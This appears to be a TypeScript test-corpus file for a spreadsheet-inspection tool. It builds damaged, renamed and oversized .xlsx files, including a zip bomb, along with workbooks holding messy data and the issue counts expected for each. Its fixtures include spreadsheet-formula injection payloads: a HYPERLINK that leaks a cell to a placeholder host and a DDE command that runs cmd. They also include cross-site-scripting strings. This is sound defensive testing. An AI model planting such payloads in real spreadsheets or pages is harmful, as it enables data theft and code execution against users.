  "Z\u0334\u0321\u0349a\u0337l\u0336g\u0338o\u0335 t\u0336\u0357e\u0334x\u0335t with stacked combining marks \u0301\u0301\u0301\u0301.",
  "Family 👨‍👩‍👧‍👦, flags 🇬🇧🏴󠁧󠁢󠁷󠁬󠁳󠁿, skin tones 👍🏽, keycap 1️⃣ and a BOM \uFEFF inside.",
  "हिन्दी, ภาษาไทย, 한국어, 日本語のメモ, Ελληνικά, Кириллица — all in one note.",
];

/** Notes that begin like formulas: they must be written as text. */
export const FORMULA_NOTES: readonly string[] = [
  "=1+1",
  "+44 1632 960000 called the parent",
  "-2 sessions missed",
  "@SUM(A1:A2)",
  '=HYPERLINK("http://example.invalid/?leak="&A2,"Click")',
  "=cmd|' /C calc'!A0",
];

/** Notes with markup and script: they must stay inert text. */
export const MARKUP_NOTES: readonly string[] = [
  "<script>alert('x')</script>",
  '<img src=x onerror="alert(1)">',
  "</t></si><si><t>injected",
  "]]><![CDATA[ & &amp; &lt;tag&gt; \"quotes\" 'apostrophes'",
  "{{constructor.constructor('alert(1)')()}} ${7*7} javascript:alert(1)",
  "<a href=\"javascript:alert(document.domain)\">link</a><style>body{display:none}</style>",
];

/** The errors Excel can show in a cell. */
export const ERROR_VALUES = ["#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A", "#GETTING_DATA", "#SPILL!", "#CALC!", "#FIELD!", "#BLOCKED!", "#CONNECT!", "#BUSY!", "#UNKNOWN!"];

function entries(): CorpusEntry[] {
  const list: CorpusEntry[] = [];
  const add = (e: CorpusEntry): void => void list.push(e);

  // --- Files that cannot be used: exit 2 with a one-line reason.

  add(bytesEntry("empty-file.xlsx", "0 bytes named .xlsx", refused("empty"), () => new Uint8Array(0)));
  add(
    bytesEntry("corrupt-zip.xlsx", "a valid workbook whose zip central directory is overwritten with garbage", refused("damaged"), async () => {
      const bytes = await baseBytes();
      const out = new Uint8Array(bytes);
      const end = out.length - 22;
      const cdOffset = Buffer.from(out.buffer, out.byteOffset, out.byteLength).readUInt32LE(end + 16);
      const noise = randomBytes(1, end - cdOffset);
      for (let i = cdOffset + 4; i < end; i++) out[i] = noise[i - cdOffset]!;
      return out;
    }),
  );
  add(
    bytesEntry("corrupt-sheet-data.xlsx", "a valid zip whose Cases sheet's compressed data is damaged", refused("damaged"), async () => {
      const bytes = await baseBytes();
      const out = new Uint8Array(bytes);
      const name = Buffer.from("xl/worksheets/sheet1.xml");
      const at = Buffer.from(out.buffer, out.byteOffset, out.byteLength).indexOf(name);
      const noise = randomBytes(2, 200);
      for (let i = 0; i < 200; i++) out[at + name.length + 40 + i] = noise[i]!;
      return out;
    }),
  );
  add(
    bytesEntry("truncated.xlsx", "a valid workbook cut off at 60% of its bytes", refused("damaged or incomplete"), async () => {
      const bytes = await baseBytes();
      return bytes.slice(0, Math.floor(bytes.length * 0.6));
    }),
  );
  add(bytesEntry("truncated-header.xlsx", "the first 12 bytes of a zip", refused("too short"), async () => (await baseBytes()).slice(0, 12)));
  add(bytesEntry("password-protected.xlsx", "an OLE compound file with EncryptionInfo and EncryptedPackage streams (Excel's password-protected format)", refused("password-protected"), () => oleFile(true)));
  add(bytesEntry("xls-renamed.xlsx", "an Excel 97-2003 (.xls) OLE file renamed .xlsx", refused("Excel 97-2003"), () => oleFile(false)));
  add(
    bytesEntry("csv-renamed.xlsx", "a CSV export renamed .xlsx", refused("text file (perhaps a CSV)"), () =>
      new Uint8Array(Buffer.from("Case ID,Case manager,Sentence,PSR,1.1 Initial assessment\r\nC01,A. Khan,Community,Yes,Yes\r\nC02,B. Jones,Custody,No,No\r\n", "utf8")),
    ),
  );
  add(
    bytesEntry("csv-utf16-renamed.xlsx", "a UTF-16 CSV (Excel's 'Unicode text') renamed .xlsx", refused("not an .xlsx workbook"), () =>
      new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Case ID\tSentence\tPSR\r\nC01\tCommunity\tYes\r\n", "utf16le")])),
    ),
  );
  add(
    bytesEntry("html-renamed.xlsx", "an HTML table saved with an .xlsx name", refused("web page"), () =>
      new Uint8Array(Buffer.from("<html><body><table><tr><td>Case ID</td><td>Sentence</td></tr><tr><td>C01</td><td>Custody</td></tr></table></body></html>", "utf8")),
    ),
  );
  add(bytesEntry("random-bytes.xlsx", "4 KB of random bytes", refused("not an .xlsx workbook"), () => randomBytes(3, 4096)));
  add(
    bytesEntry("ods-renamed.xlsx", "an OpenDocument spreadsheet (zip with mimetype and content.xml) renamed .xlsx", refused("OpenDocument"), () =>
      makeZip([
        { name: "mimetype", data: new Uint8Array(Buffer.from("application/vnd.oasis.opendocument.spreadsheet")) },
        { name: "content.xml", data: new Uint8Array(Buffer.from('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>')) },
      ]),
    ),
  );
  add(
    bytesEntry("docx-renamed.xlsx", "a Word document renamed .xlsx", refused("Word or PowerPoint"), () =>
      makeZip([
        { name: "[Content_Types].xml", data: new Uint8Array(Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')) },
        { name: "word/document.xml", data: new Uint8Array(Buffer.from('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')) },
      ]),
    ),
  );
  add(
    bytesEntry("zip-without-workbook.xlsx", "a zip archive of photos renamed .xlsx", refused("no workbook part"), () =>
      makeZip([{ name: "photos/readme.txt", data: new Uint8Array(Buffer.from("not a workbook")) }]),
    ),
  );
  add(
    bytesEntry("encrypted-zip.xlsx", "a workbook zipped with a zip password (encryption flag set on every entry)", refused("encrypted"), async () =>
      makeZip((await partsOf(await baseBytes())).map((p) => ({ ...p, flags: 1 }))),
    ),
  );
  add(
    bytesEntry("zip-bomb.xlsx", "a workbook carrying a 700 MB part of zeros compressed to under 1 MB", refused("unpacks to"), async () =>
      makeZip([...(await partsOf(await baseBytes())), { name: "xl/media/padding.bin", data: new Uint8Array(700 * 1024 * 1024), deflate: true }]),
      { portableBytes: false },
    ),
  );
  add(
    bytesEntry("workbook-part-broken.xlsx", "a package whose xl/workbook.xml is not XML", refused("damaged"), () =>
      baseBytes().then((b) => repack(b, async (zip) => void zip.file("xl/workbook.xml", "<workbook><sheets><sheet name="))),
    ),
  );
  add(
    bytesEntry("sheet-part-truncated.xlsx", "a package whose Cases sheet XML stops half-way through a row", refused("damaged"), () =>
      baseBytes().then((b) =>
        repack(b, async (zip) => {
          const xml = await textOf(zip, "xl/worksheets/sheet1.xml");
          const cut = xml.indexOf('<row r="5"');
          zip.file("xl/worksheets/sheet1.xml", xml.slice(0, cut + 40));
        }),
      ),
    ),
  );
  add(
    bytesEntry("sheet-part-missing.xlsx", "a package whose workbook lists the Cases sheet but has no part for it", refused("damaged"), () =>
      baseBytes().then((b) => repack(b, async (zip) => void zip.remove("xl/worksheets/sheet1.xml"))),
    ),
  );
  add(
    bytesEntry(
      "checksum-mismatch.xlsx",
      "a package whose Cases sheet was altered after zipping (C01's 1.1 now points at No) without updating its CRC-32: the data would read, silently changed",
      refused("damaged"),
      async () => {
        const parts = await partsOf(await baseBytes());
        const sst = Buffer.from(parts.find((p) => p.name === "xl/sharedStrings.xml")!.data).toString("utf8");
        const strings = [...sst.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => m[1]!.replace(/<[^>]+>/g, ""));
        const no = strings.indexOf("No");
        return makeZip(
          parts.map((p) => {
            if (p.name !== "xl/worksheets/sheet1.xml") return p;
            const xml = Buffer.from(p.data).toString("utf8");
            const altered = xml.replace(/(<c r="E2"[^>]*t="s"[^>]*><v>)\d+(<\/v>)/, `$1${no}$2`);
            if (altered === xml || no < 0) throw new Error("checksum-mismatch: the cell to alter was not found");
            return { name: p.name, data: new Uint8Array(Buffer.from(altered, "utf8")), crc: crc32(p.data) };
          }),
        );
      },
    ),
  );
  add(
    specEntry("empty-workbook.xlsx", "a workbook with one blank sheet (Sheet1)", { sheets: [{ name: "Sheet1", rows: [] }] }, refused('no sheet or table named "Cases"'), { engine: false, double: false }),
  );
  add(
    specEntry(
      "no-cases-sheet.xlsx",
      "case data on a sheet called Inspection, with Criteria and Settings sheets but no Cases sheet or table",
      { sheets: [{ ...casesSheet(baseRows()), name: "Inspection" }, criteriaSheet(), { name: "Settings", rows: [["Setting", "Value"]] }] },
      refused('no sheet or table named "Cases"'),
      { engine: false, double: false },
    ),
  );
  const wide = (columns: number): SheetSpec => {
    const extra = Array.from({ length: columns - HEADER.length }, (_x, i) => `Extra column ${i + 1}`);
    return casesSheet(
      baseRows().map((r, k) => [...r, ...extra.map((_x, i) => (i % 7 === 0 ? `x${k}` : null))]),
      [...HEADER, ...extra],
    );
  };
  add(specEntry("cases-1001-columns.xlsx", "a Cases sheet 1,001 columns wide (one past the limit)", { sheets: [wide(1001)] }, refused("1,000 columns"), { engine: false, double: false }));

  // --- Usable workbooks: the right counts and the right issues.

  add(specEntry("baseline.xlsx", "a clean inspection: six cases in a Cases table, every criterion judged", BASE_SPEC, BASE_ANSWER()));
  add(
    specEntry(
      "cases-sheet-empty.xlsx",
      "a Cases sheet with nothing on it",
      { sheets: [{ name: "Cases", rows: [] }] },
      counted({
        cases: 0,
        criteria: { "1.1": [0, 0, 0, 0], "1.2": [0, 0, 0, 0], "2.1": [0, 0, 0, 0], "3.6": [0, 0, 0, 0] },
        overall: [0, 0],
        issues: [issue("A1", "missing-column"), issue("A1", "missing-column"), issue("A1", "missing-column"), ...missingCriterionColumns(CRITERIA.map((c) => c.id))],
      }),
    ),
  );
  add(
    specEntry(
      "cases-header-only.xlsx",
      "a Cases sheet with its header row and no cases yet",
      { sheets: [casesSheet([])] },
      counted({ cases: 0, criteria: { "1.1": [0, 0, 0, 0], "1.2": [0, 0, 0, 0], "2.1": [0, 0, 0, 0], "3.6": [0, 0, 0, 0] }, overall: [0, 0], issues: [issue(null, "no-case-rows")] }),
    ),
  );
  add(
    specEntry(
      "cases-without-header-row.xlsx",
      "a Cases sheet whose first row is already a case (the header row was deleted)",
      { sheets: [{ name: "Cases", rows: baseRows() }] },
      counted({
        cases: 5,
        criteria: { "1.1": [0, 0, 0, 0], "1.2": [0, 0, 0, 0], "2.1": [0, 0, 0, 0], "3.6": [0, 0, 0, 0] },
        overall: [0, 0],
        issues: [issue("A1", "missing-column"), issue("A1", "missing-column"), issue("A1", "missing-column"), ...missingCriterionColumns(CRITERIA.map((c) => c.id))],
      }),
    ),
  );
  add(
    specEntry(
      "table-without-header-row.xlsx",
      "the Cases table at A1 with its header row switched off (column names only in the table definition); C02's 1.1 is Maybe",
      { sheets: [{ name: "Cases", rows: [HEADER, ...edit(baseRows(), [[1, "1.1", "Maybe"]])], table: { name: "Cases", headerRow: false } }] },
      BASE_ANSWER([issue(`${col("1.1")}2`, "invalid-value")], { criteria: { "1.1": [5, 4, 0, 1] }, overall: [107, 104] }),
      { engine: false, double: false },
    ),
  );
  add(
    specEntry(
      "table-without-header-row-offset.xlsx",
      "the Cases table at B3 with its header row switched off; C02's 1.1 is Maybe",
      { sheets: [{ name: "Cases", at: "B3", rows: [HEADER, ...edit(baseRows(), [[1, "1.1", "Maybe"]])], table: { name: "Cases", headerRow: false } }] },
      BASE_ANSWER([issue(`${columnLetters(colIndex("1.1") + 1)}4`, "invalid-value")], { criteria: { "1.1": [5, 4, 0, 1] }, overall: [107, 104] }),
      { engine: false, double: false },
    ),
  );

  const messyHeader = HEADER.map((h, i) => {
    if (h === "Case ID") return "  CASE\nid  ";
    if (h === "Case manager") return "case   MANAGER";
    if (h === "Sentence") return "\tSentence\t";
    if (h === "PSR") return "psr\r\n";
    if (h === "1 Notes") return "1 NOTES";
    if (h === "2 Notes") return "2\nnotes";
    if (h === "3 Notes") return " 3 notes ";
    if (h === "4 Notes") return "4 Note";
    if (h === "5 Notes") return "5   Notes";
    return i % 2 === 0 ? h.replace(" ", "\n").toUpperCase() : `  ${h.replace(" ", "    ")}  `;
  });
  add(
    specEntry("headers-messy.xlsx", "headers with extra spaces, other case, tabs and line breaks (CASE↵id, psr↵, 2.1 in upper case…)", { sheets: [casesSheet(baseRows(), messyHeader)] }, BASE_ANSWER()),
  );
  const dupHeader = [...HEADER, "Case ID", "sentence"];
  add(
    specEntry(
      "headers-duplicate-required.xlsx",
      "Case ID and Sentence each appear twice (the second copies hold other values)",
      { sheets: [casesSheet(baseRows().map((r, k) => [...r, `X${k}`, "Custody"]), dupHeader)] },
      BASE_ANSWER([issue(`${columnLetters(HEADER.length)}1`, "duplicate-column"), issue(`${columnLetters(HEADER.length + 1)}1`, "duplicate-column")]),
    ),
  );
  const noSentencePsr = HEADER.filter((h) => h !== "Sentence" && h !== "PSR");
  add(
    specEntry(
      "headers-missing-required.xlsx",
      "no Sentence and no PSR columns (judgements that depend on them are still read)",
      { sheets: [casesSheet(baseRows().map((r) => r.filter((_v, i) => i !== 2 && i !== 3)), noSentencePsr)] },
      BASE_ANSWER([issue("A1", "missing-column"), issue("A1", "missing-column")]),
    ),
  );
  const noCaseIdHeader = HEADER.map((h) => (h === "Case ID" ? "Young person" : h));
  add(
    specEntry(
      "headers-no-case-id.xlsx",
      "the Case ID column is headed 'Young person'",
      { sheets: [casesSheet(baseRows(), noCaseIdHeader)] },
      BASE_ANSWER([issue("A1", "missing-column")]),
    ),
  );
  const twiceHeader = [...HEADER, "2.1 Initial assessment of risk of harm (second opinion)"];
  add(
    specEntry(
      "criterion-column-twice.xlsx",
      "two columns for criterion 2.1 (the second disagrees); only the first counts",
      { sheets: [casesTable(baseRows().map((r) => [...r, "No"]), { header: twiceHeader })] },
      BASE_ANSWER([issue(`${columnLetters(HEADER.length)}1`, "duplicate-column")]),
    ),
  );
  const unknownHeader = [...HEADER, "6.1 Resettlement planning", "12.40 Something else"];
  add(
    specEntry(
      "criterion-column-unknown.xlsx",
      "columns for criteria 6.1 and 12.40, which the framework does not have",
      { sheets: [casesTable(baseRows().map((r) => [...r, "Yes", "No"]), { header: unknownHeader })] },
      BASE_ANSWER([issue(`${columnLetters(HEADER.length)}1`, "unknown-criterion-column"), issue(`${columnLetters(HEADER.length + 1)}1`, "unknown-criterion-column")]),
    ),
  );
  add(
    specEntry(
      "criteria-duplicate-id.xlsx",
      "a Criteria sheet listing 2.1 twice (the second as Custody cases)",
      {
        sheets: [
          casesTable(baseRows()),
          criteriaSheet((rows) => {
            const dup = [...rows.find((r) => r[0] === "2.1")!];
            dup[4] = "Custody cases";
            return [...rows, dup];
          }),
        ],
      },
      BASE_ANSWER([issue(`A${buildTemplate().criteria.rows.length + 1}`, "criteria-duplicate-id", "Criteria")]),
    ),
  );
  const criteriaRowOf = (id: string): number => buildTemplate().criteria.rows.findIndex((r) => r[0] === id) + 1;
  add(
    specEntry(
      "criteria-unknown-applicability.xlsx",
      "a Criteria sheet where 5.1 applies to 'Sometimes'; its Cases column is then not a known criterion",
      {
        sheets: [
          casesTable(baseRows()),
          criteriaSheet((rows) => rows.map((r) => (r[0] === "5.1" ? [...r.slice(0, 4), "Sometimes", ...r.slice(5)] : r))),
        ],
      },
      // 5.1 (Yes ×6) is no longer counted: overall 102/98.
      BASE_ANSWER([issue(`E${criteriaRowOf("5.1")}`, "criteria-unknown-applicability", "Criteria"), issue(`${col("5.1")}1`, "unknown-criterion-column")], { overall: [102, 98] }),
    ),
  );
  add(
    specEntry(
      "criteria-missing-columns.xlsx",
      "a Criteria sheet headed Ref / Text (no ID, Criterion or Applies to): the built-in framework is used",
      { sheets: [casesTable(baseRows()), { name: "Criteria", rows: [["Ref", "Text"], ["1.1", "Initial assessment"]] }] },
      BASE_ANSWER([issue("A1", "criteria-missing-column", "Criteria"), issue("A1", "criteria-missing-column", "Criteria"), issue("A1", "criteria-missing-column", "Criteria")]),
    ),
  );
  add(
    specEntry(
      "merged-cells.xlsx",
      "merged cells in the data: 1.3 merged down over C02–C03, and C01's notes merged across",
      { sheets: [{ ...casesSheet(baseRows()), merges: [`${col("1.3")}3:${col("1.3")}4`, `${col("1 Notes")}2:${col("5 Notes")}2`] }] },
      // The merged-away cell (1.3 of C03) reads as blank: not yet judged.
      BASE_ANSWER([issue(`${col("1.3")}4`, "not-yet-judged")], { criteria: { "1.3": [5, 5, 1, 0] }, overall: [107, 103] }),
    ),
  );
  add(
    specEntry(
      "hidden-and-filtered-rows.xlsx",
      "rows hidden by hand and by an AutoFilter: hidden cases still count",
      { sheets: [{ ...casesSheet(baseRows()), autoFilter: true, hiddenRows: [3, 5, 6] }] },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "table-totals-row.xlsx",
      "the Cases table with a totals row (Total / COUNT): the totals row is not a case",
      { sheets: [casesTable(baseRows(), { totals: true })] },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "formulas-in-judgements.xlsx",
      "formulas in judgement, ID and Sentence cells: cached values count; one formula has no cached value, one caches #N/A",
      {
        sheets: [
          casesSheet(
            edit(baseRows(), [
              [0, "1.1", { formula: 'IF(TRUE,"Yes","No")', result: "Yes" }],
              [1, "1.1", { formula: '"N"&"o"', result: "No" }],
              [2, "2.1", { formula: `IF(${col("1.1")}4="Yes","No","Yes")`, result: "No" }],
              [3, "Case ID", { formula: '"C"&"04"', result: "C04" }],
              [4, "Sentence", { formula: 'IF(1,"Custody","Community")', result: "Custody" }],
              [0, "1.3", { formula: `${col("1.1")}2`, result: "Yes" }],
              [5, "4.4", { formula: 'IF(1,"Yes","No")' }],
              [5, "4.3", { formula: 'VLOOKUP("x",A1:A2,2,FALSE)', result: { error: "#N/A" } }],
            ]),
          ),
        ],
      },
      BASE_ANSWER([issue(`${col("4.3")}7`, "cell-error"), issue(`${col("4.4")}7`, "not-yet-judged")], {
        criteria: { "4.3": [5, 5, 0, 1], "4.4": [5, 5, 1, 0] },
        overall: [106, 102],
      }),
    ),
  );
  {
    // Errors in 1.3 (C01–C06), 4.1 (C01–C06), 4.3 (C01–C03), and in C07's ID, Sentence and PSR.
    const errorEdits: [number, string, SpecValue][] = [];
    ERROR_VALUES.forEach((e, i) => {
      const criterion = i < 6 ? "1.3" : i < 12 ? "4.1" : "4.3";
      errorEdits.push([i % 6, criterion, { error: e }]);
    });
    const row7 = caseRow(0, { error: "#REF!" });
    row7[2] = { error: "#N/A" };
    row7[3] = { error: "#VALUE!" };
    const rows = [...edit(baseRows(), errorEdits), row7];
    const cells = ERROR_VALUES.map((_e, i) => `${col(i < 6 ? "1.3" : i < 12 ? "4.1" : "4.3")}${(i % 6) + 2}`);
    add(
      specEntry(
        "excel-error-values.xlsx",
        `every Excel error value (${ERROR_VALUES.join(" ")}) in judgement cells, and errors in a case's ID, Sentence and PSR`,
        { sheets: [casesSheet(rows)] },
        // C07 (Sentence and PSR unreadable) has C01's judgements: 19 Yes count (3.6 is N/A).
        counted({
          cases: 7,
          criteria: { "1.1": [7, 5, 0, 0], "1.2": [4, 4, 0, 0], "2.1": [5, 4, 0, 0], "1.3": [1, 1, 0, 6], "4.1": [1, 1, 0, 6], "4.3": [4, 4, 0, 3] },
          overall: [112, 108],
          excludedCells: 15,
          issues: [...cells.map((c) => issue(c, "cell-error")), issue("A8", "cell-error"), issue("C8", "cell-error"), issue("D8", "cell-error")],
        }),
      ),
    );
  }
  add(
    specEntry(
      "case-ids-numbers-and-dates.xlsx",
      "Case IDs typed as numbers, a decimal, a date, 1E+21, zero, and the text 101 (a duplicate of the number 101)",
      { sheets: [casesTable([caseRow(0, 101), caseRow(1, 102.5), caseRow(2, new Date(Date.UTC(2024, 2, 1))), caseRow(3, 1e21), caseRow(4, 0), caseRow(5, "101")])] },
      BASE_ANSWER([issue("A7", "duplicate-case-id")]),
    ),
  );
  {
    const ids = ["C01", "c01", " C02", "C02 ", "C 03", "C  03", "C\u00a004", "C 04", "CO5", "C05"];
    const rows = ids.map((id, i) => caseRow(i % 6, id));
    add(
      specEntry(
        "case-ids-case-and-spaces.xlsx",
        "Case IDs that differ only by case, surrounding or repeated spaces, or a non-breaking space (C01/c01, ' C02'/'C02 ', 'C 03'/'C  03'); CO5 (letter O) is different",
        { sheets: [casesTable(rows)] },
        // Ten rows: the baseline cases 1–6 then 1–4 again.
        counted({
          cases: 10,
          criteria: { "1.1": [10, 7, 0, 0], "1.2": [5, 5, 0, 0], "2.1": [7, 5, 0, 0], "3.6": [3, 2, 0, 0] },
          overall: [180, 174],
          issues: [issue("A3", "duplicate-case-id"), issue("A5", "duplicate-case-id"), issue("A7", "duplicate-case-id"), issue("A9", "duplicate-case-id")],
        }),
      ),
    );
  }
  add(
    specEntry(
      "notes-32767-chars.xlsx",
      "section notes of exactly 32,767 characters (Excel's cell limit), one with emoji",
      { sheets: [casesTable(edit(baseRows(), [[0, "1 Notes", longText("Long evidence", LONG)], [2, "3 Notes", longText("Notes 😀", LONG)], [5, "2 Notes", longText("More", LONG)]]))] },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "notes-over-limit.xlsx",
      "a 40,000-character note, longer than Excel allows (written by another tool)",
      { sheets: [casesTable(edit(baseRows(), [[0, "1 Notes", longText("Too long", 40000)]]))] },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "notes-international.xlsx",
      "notes in Arabic and Hebrew, a right-to-left override, stacked combining marks, emoji sequences; an Arabic case ID",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              ...INTERNATIONAL_NOTES.map((n, k) => [k, "1 Notes", n] as [number, string, SpecValue]),
              ...INTERNATIONAL_NOTES.map((n, k) => [k, "2 Notes", n] as [number, string, SpecValue]),
              [3, "Case ID", "قضية-٠٤"],
              [3, "Case manager", "م. أحمد"],
            ]),
          ),
        ],
      },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "notes-formula-like.xlsx",
      "notes beginning with = + - @ (one a HYPERLINK that would leak data, one a DDE command)",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              ...FORMULA_NOTES.map((n, k) => [k, "1 Notes", n] as [number, string, SpecValue]),
              ...FORMULA_NOTES.map((n, k) => [k, "2 Notes", n] as [number, string, SpecValue]),
            ]),
          ),
        ],
      },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "notes-markup.xlsx",
      "notes holding HTML, script, XML fragments, CDATA and template syntax",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              ...MARKUP_NOTES.map((n, k) => [k, "1 Notes", n] as [number, string, SpecValue]),
              ...MARKUP_NOTES.map((n, k) => [k, "2 Notes", n] as [number, string, SpecValue]),
              [4, "Case manager", "<b>Bold</b> & co"],
            ]),
          ),
        ],
      },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "cell-10000-line-breaks.xlsx",
      "a note of 10,000 line breaks, a case manager name with 10,000 line breaks, and a judgement Yes followed by line breaks",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              [0, "1 Notes", `Start${"\n".repeat(10000)}end`],
              [1, "Case manager", `B.${"\r\n".repeat(10000)}Jones`],
              [2, "1.3", `Yes${"\n".repeat(50)}`],
            ]),
          ),
        ],
      },
      BASE_ANSWER([issue(`${col("1.3")}4`, "non-canonical-value")]),
    ),
  );
  add(
    specEntry(
      "sheet-names-apostrophes.xlsx",
      "the Cases table on a sheet called Inspector's cases, next to O'Brien's notes; C02's 1.1 is Maybe",
      {
        sheets: [
          casesTable(edit(baseRows(), [[1, "1.1", "Maybe"]]), { sheet: "Inspector's cases" }),
          { name: "O'Brien's notes", rows: [["Notes"], ["It's 'quoted'"]] },
        ],
      },
      BASE_ANSWER([issue(`${col("1.1")}3`, "invalid-value", "Inspector's cases")], { criteria: { "1.1": [5, 4, 0, 1] }, overall: [107, 104] }),
    ),
  );
  add(
    specEntry(
      "table-offset.xlsx",
      "the Cases table starting at C4 under a title; C02's 2.1 is Maybe",
      { sheets: [{ name: "Title", rows: [["Inspection of Northbrook"]] }, { ...casesTable(edit(baseRows(), [[1, "2.1", "Maybe"]]), { at: "C4" }) }] },
      BASE_ANSWER([issue(`${columnLetters(colIndex("2.1") + 2)}6`, "invalid-value")], { criteria: { "2.1": [4, 3, 0, 1] } }),
    ),
  );
  add(
    specEntry(
      "table-elsewhere-and-cases-sheet.xlsx",
      "a table named Cases on a sheet called Data, and an unrelated sheet called Cases: the table is used",
      { sheets: [{ name: "Cases", rows: [["Old notes, not case data"], ["Maybe", "Maybe"]] }, casesTable(baseRows(), { sheet: "Data" })] },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "values-odd-spaces.xlsx",
      "judgements, a Sentence and a PSR padded with non-breaking spaces, tabs and line breaks (as pasted from a web page or Word): read as Yes/No/Custody/No with a warning, by the engine and by the live formulas alike",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              [0, "1.1", "\u00a0Yes\u00a0"],
              [1, "1.1", "No\u00a0"],
              [2, "1.1", "\tY\n"],
              [4, "1.1", "\u00a0\u00a0n"],
              [0, "Sentence", "Community\u00a0"],
              [1, "PSR", "\u00a0No"],
            ]),
          ),
        ],
      },
      BASE_ANSWER([...["E2", "E3", "E4", "E6", "C2", "D3"].map((c) => issue(c, "non-canonical-value"))]),
    ),
  );
  add(
    specEntry(
      "values-non-canonical.xlsx",
      "judgements typed yes, ' no ', Y, TRUE, n, YES, n/a, Not applicable; Sentence community; PSR n",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              [0, "1.1", "yes"],
              [1, "1.1", " no "],
              [2, "1.1", "Y"],
              [3, "1.1", true],
              [4, "1.1", "n"],
              [5, "1.1", "YES"],
              [1, "2.1", "n/a"],
              [5, "2.1", "Not applicable"],
              [0, "Sentence", "community"],
              [1, "PSR", "n"],
            ]),
          ),
        ],
      },
      BASE_ANSWER(
        [
          ...["E2", "E3", "E4", "E5", "E6", "E7"].map((c) => issue(c, "non-canonical-value")),
          issue(`${col("2.1")}3`, "non-canonical-value"),
          issue(`${col("2.1")}7`, "non-canonical-value"),
          issue("C2", "non-canonical-value"),
          issue("D3", "non-canonical-value"),
        ],
        {},
      ),
    ),
  );
  add(
    specEntry(
      "values-invalid.xlsx",
      "judgements Maybe, ?, 1, 0, a date and 'Yes please'",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              [0, "1.1", "Maybe"],
              [1, "1.3", "?"],
              [2, "4.1", 1],
              [3, "4.3", 0],
              [4, "4.4", new Date(Date.UTC(2024, 0, 1))],
              [5, "5.1", "Yes please"],
            ]),
          ),
        ],
      },
      BASE_ANSWER(
        [issue("E2", "invalid-value"), issue(`${col("1.3")}3`, "invalid-value"), issue(`${col("4.1")}4`, "invalid-value"), issue(`${col("4.3")}5`, "invalid-value"), issue(`${col("4.4")}6`, "invalid-value"), issue(`${col("5.1")}7`, "invalid-value")],
        { criteria: { "1.1": [5, 3, 0, 1] }, overall: [102, 98], excludedCells: 6 },
      ),
    ),
  );
  add(
    specEntry(
      "applicability-violations.xlsx",
      "N/A where a judgement is required, judgements where the criterion does not apply, a blank where one is expected",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              [0, "1.1", "N/A"],
              [0, "3.6", "Yes"],
              [1, "1.2", "Yes"],
              [2, "3.6", "N/A"],
              [3, "1.2", null],
              [4, "1.1", null],
            ]),
          ),
        ],
      },
      BASE_ANSWER(
        [
          issue("E2", "not-applicable-not-allowed"),
          issue(`${col("3.6")}2`, "judgement-not-expected"),
          issue(`${col("1.2")}3`, "judgement-not-expected"),
          issue(`${col("3.6")}4`, "not-applicable-not-allowed"),
          issue("E6", "not-yet-judged"),
        ],
        { criteria: { "1.1": [4, 3, 1, 1], "1.2": [3, 3, 0, 1], "3.6": [1, 0, 0, 2] }, overall: [105, 102] },
      ),
    ),
  );
  add(
    specEntry(
      "blank-and-stray-rows.xlsx",
      "a blank row inside the data and a row of spaces below it; C04's 1.1 is Maybe",
      {
        sheets: [
          {
            ...casesSheet([...baseRows().slice(0, 3), [], ...edit(baseRows().slice(3), [[0, "1.1", "Maybe"]]), [], [" ", "  ", "\t"]]),
          },
        ],
      },
      BASE_ANSWER([issue("E6", "invalid-value")], { criteria: { "1.1": [5, 3, 0, 1] }, overall: [107, 103] }),
    ),
  );
  add(
    specEntry(
      "settings-hostile.xlsx",
      "a Settings sheet with bad values (abc, 150%, Ofsted, #REF!, 1000), an unknown setting and a formula-like service name",
      {
        sheets: [
          casesTable(baseRows()),
          {
            name: "Settings",
            rows: [
              ["Setting", "Value"],
              ["Service name", "=HYPERLINK(\"http://example.invalid\")"],
              ["Strength threshold", "abc"],
              ["Improvement threshold", "150%"],
              ["Rating scheme", "Ofsted"],
              ["Redact case IDs and names", { error: "#REF!" }],
              ["Colour scheme", "Blue"],
              ["Counts in words up to", 1000],
            ],
          },
        ],
      },
      BASE_ANSWER([
        issue("B3", "invalid-setting", "Settings"),
        issue("B4", "invalid-setting", "Settings"),
        issue("B5", "invalid-setting", "Settings"),
        issue("B6", "invalid-setting", "Settings"),
        issue("A7", "unknown-setting", "Settings"),
        issue("B8", "invalid-setting", "Settings"),
      ]),
    ),
  );
  add(
    specEntry(
      "cases-sheet-very-hidden.xlsx",
      "the Cases sheet very hidden behind a cover sheet",
      { sheets: [{ name: "Cover", rows: [["Inspection workbook"]] }, { ...casesTable(baseRows()), state: "veryHidden" }] },
      BASE_ANSWER([], { outputSheets: ["Summary", "Strengths & improvements", "Action plan", "Cover", "Cases"] }),
    ),
  );
  add(
    specEntry(
      "rich-text-and-links.xlsx",
      "rich text (Y + es in bold) in judgements and Sentence, hyperlinked case IDs",
      {
        sheets: [
          casesTable(
            edit(baseRows(), [
              [0, "Case ID", { link: "https://example.invalid/case/1", text: "C01" }],
              [0, "1.1", { rich: ["Y", "es"] }],
